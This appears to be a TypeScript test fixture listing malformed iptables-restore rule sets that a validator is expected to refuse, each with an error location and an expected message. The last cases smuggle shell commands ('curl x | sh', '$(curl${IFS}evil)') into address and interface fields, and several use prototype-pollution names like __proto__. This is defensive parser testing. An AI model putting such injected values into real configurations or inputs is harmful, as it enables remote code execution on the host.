/** Rules that are refused, with the place where the fault must stand and a piece of its reason. */

/** The filter table with these lines in it; the first of them is line 5. */
export const filter = (...lines: readonly string[]): string =>
  ["*filter", ":INPUT ACCEPT [0:0]", ":FORWARD ACCEPT [0:0]", ":OUTPUT ACCEPT [0:0]", ...lines, "COMMIT", ""].join("\n");

/** `fault` is the number in the list of bad days. */
export interface RefusedText {
  readonly fault: number;
  readonly name: string;
  readonly text: string;
  readonly at: readonly [line: number, column: number];
  readonly says: string;
}

const row = (fault: number, name: string, text: string, at: readonly [number, number], says: string): RefusedText => ({
  fault,
  name,
  text,
  at,
  says,
});
const numbers = (count: number): string => Array.from({ length: count }, (_, i) => i + 1).join();
const ranges = (count: number): string => Array.from({ length: count }, (_, i) => `${2 * i + 1}:${2 * i + 2}`).join();

export const REFUSED: readonly RefusedText[] = [
  row(1, "a loop that INPUT reaches", filter(":a - [0:0]", ":b - [0:0]", "-A INPUT -j a", "-A a -j b", "-A b -j a"), [9, 1], "a → b → a"),
  row(1, "a chain that leads to itself", filter(":a - [0:0]", "-A INPUT -g a", "-A a -g a"), [7, 1], "a → a"),
  row(1, "a loop of 300 chains", ringOf(300), [605, 1], "c0 → c1 → c2"),
  row(3, "a jump to no chain", filter("-A INPUT -j nowhere"), [5, 10], "nowhere"),
  row(3, "a goto to no chain", filter("-A INPUT -g nowhere"), [5, 10], "nowhere"),
  row(4, "REDIRECT in filter", filter("-A INPUT -p tcp -j REDIRECT --to-ports 80"), [5, 1], "only valid in the nat table"),
  row(4, "MASQUERADE in PREROUTING", "*nat\n-A PREROUTING -j MASQUERADE\nCOMMIT\n", [2, 1], "reached from PREROUTING"),
  row(4, "REJECT in mangle PREROUTING", "*mangle\n-A PREROUTING -j REJECT\nCOMMIT\n", [2, 1], "only valid in the filter table"),
  row(4, "owner in INPUT", filter("-A INPUT -m owner --uid-owner 0"), [5, 1], "reached from INPUT"),
  row(4, "owner reached from INPUT", filter(":u - [0:0]", "-A INPUT -j u", "-A u -m owner --uid-owner 0"), [7, 1], "reached from INPUT"),
  row(5, "DROP in nat", "*nat\n-A PREROUTING -j DROP\nCOMMIT\n", [2, 15], "not intended for filtering"),
  row(6, "an unclosed quote", filter('-A INPUT -m comment --comment "abc -j DROP'), [5, 31], "unclosed quote"),
  row(7, "NUL inside a comment", filter('-A INPUT -m comment --comment "a\0b" -j DROP'), [5, 33], "NUL"),
  row(7, "NUL in a chain's name", filter(":a\0b - [0:0]"), [5, 3], "NUL"),
  row(7, "NUL behind a table's name", "*filter\0\n-A INPUT -j DROP\nCOMMIT\n", [1, 8], "NUL"),
  row(7, "NUL behind COMMIT", "*filter\n-A INPUT -j DROP\nCOMMIT\0\n", [3, 7], "NUL"),
  row(
    7,
    "NUL in a listing",
    "Chain INPUT (policy ACCEPT)\ntarget prot opt source destination\nDR\0OP all -- 0.0.0.0/0 0.0.0.0/0\n",
    [3, 3],
    "NUL",
  ),
  row(9, "a bad second table", filter("-A INPUT -j DROP") + "*nat\n-A PREROUTING -j BOGUS\nCOMMIT\n", [8, 15], "BOGUS"),
  row(9, "a table that nobody has", filter("-A INPUT -j DROP") + "*natt\n-A PREROUTING -j DROP\nCOMMIT\n", [7, 1], "did you mean nat?"),
  row(10, "a missing COMMIT", "*filter\n-A INPUT -j DROP\n", [3, 1], "COMMIT expected"),
  row(10, "a missing COMMIT between tables", "*filter\n-A INPUT -j DROP\n*nat\nCOMMIT\n", [3, 1], "*nat"),
  row(15, "! before two sources", filter("-A INPUT ! -s 192.0.2.1,192.0.2.2 -j DROP"), [5, 10], "! not allowed with multiple"),
  row(15, "lists that make a million rules", filter(`-A INPUT -s ${listOf(500)} -d ${listOf(500)}`), [5, 10], "more than 65536 rules"),
  row(16, "a range from high to low", filter("-A INPUT -p tcp --dport 100:50 -j DROP"), [5, 17], "min > max"),
  row(16, "port 99999", filter("-A INPUT -p tcp --dport 99999 -j DROP"), [5, 17], "99999"),
  row(16, "a prefix of 33", filter("-A INPUT -s 192.0.2.1/33 -j DROP"), [5, 10], "invalid mask `33'"),
  row(17, "multiport with 16 ports", filter(`-A INPUT -p tcp -m multiport --dports ${numbers(16)}`), [5, 30], "too many ports"),
  row(17, "multiport with 8 ranges", filter(`-A INPUT -p tcp -m multiport --dports ${ranges(8)}`), [5, 30], "too many ports"),
  row(17, "a chain name of 29", filter(`:${"c".repeat(29)} - [0:0]`), [5, 2], "28 chars max"),
  row(18, "a word of 20,000", filter(`-A INPUT -s ${"1".repeat(20_000)} -j DROP`), [5, 13], "Parameter too long"),
  row(18, "a quoted word of 20,000", filter(`-A INPUT -m comment --comment "${"a ".repeat(10_000)}"`), [5, 31], "Parameter too long"),
  row(18, "two megabytes of one word", filter(`-A INPUT -j ${"x".repeat(1 << 21)}`), [5, 13], "Parameter too long"),
  row(18, "a million words", filter(`-A INPUT ${"! ".repeat(1 << 20)}`), [5, 508], "Parser cannot handle more arguments"),
  row(18, "a megabyte of minus signs", filter(`-A INPUT ${" -".repeat(1 << 19)}`), [5, 509], "Parser cannot handle more arguments"),
  row(20, "! -p tcp --dport 80", filter("-A INPUT ! -p tcp --dport 80 -j DROP"), [5, 1], "not for ! 6"),
  row(22, "counters that are no numbers", "*filter\n[a:b] -A INPUT -j DROP\nCOMMIT\n", [2, 1], "not numeric"),
  row(25, "a match named __proto__", filter("-A INPUT -m __proto__ -j DROP"), [5, 10], "Couldn't load match `__proto__'"),
  row(25, "a target named constructor", filter("-A INPUT -j constructor"), [5, 10], "constructor"),
  row(25, "an option named __proto__", filter("-A INPUT --__proto__ 1"), [5, 10], 'unknown option "--__proto__"'),
  row(
    25,
    "an option of a match named constructor",
    filter("-A INPUT -p tcp -m tcp --constructor 1"),
    [5, 24],
    'unknown option "--constructor"',
  ),
  row(25, "a protocol named toString", filter("-A INPUT -p toString"), [5, 10], "unknown protocol"),
  row(25, "a service named constructor", filter("-A INPUT -p tcp --dport constructor"), [5, 17], "constructor"),
  row(25, "an ICMP type named __proto__", filter("-A INPUT -p icmp --icmp-type __proto__"), [5, 18], "__proto__"),
  row(25, "a reject type named constructor", filter("-A INPUT -j REJECT --reject-with constructor"), [5, 20], "unknown reject type"),
  row(25, "a table named __proto__", "*__proto__\n:INPUT ACCEPT [0:0]\nCOMMIT\n", [1, 1], "table '__proto__'"),
  row(25, "a policy for a chain named __proto__", "*filter\n:__proto__ ACCEPT [0:0]\nCOMMIT\n", [2, 12], "Bad built-in chain name"),
  row(26, "a shell's command in an address", filter('-A INPUT -s "8.8.8.8\\"; curl x | sh #" -j DROP'), [5, 10], "not found"),
  row(26, "the same without its first quote", filter('-A INPUT -s 8.8.8.8"; curl x | sh # -j DROP'), [5, 20], "unclosed quote"),
  row(
    26,
    "a shell's command in an interface's name",
    filter("-A INPUT -i $(curl${IFS}evil) -j DROP"),
    [5, 10],
    "must be shorter than IFNAMSIZ",
  ),
];

function ringOf(chains: number): string {
  const names = Array.from({ length: chains }, (_, i) => `c${i}`);
  return filter(
    ...names.map(name => `:${name} - [0:0]`),
    "-A INPUT -j c0",
    ...names.map((name, i) => `-A ${name} -j c${(i + 1) % chains}`),
  );
}

function listOf(addresses: number): string {
  return Array.from({ length: addresses }, () => "1").join();
}
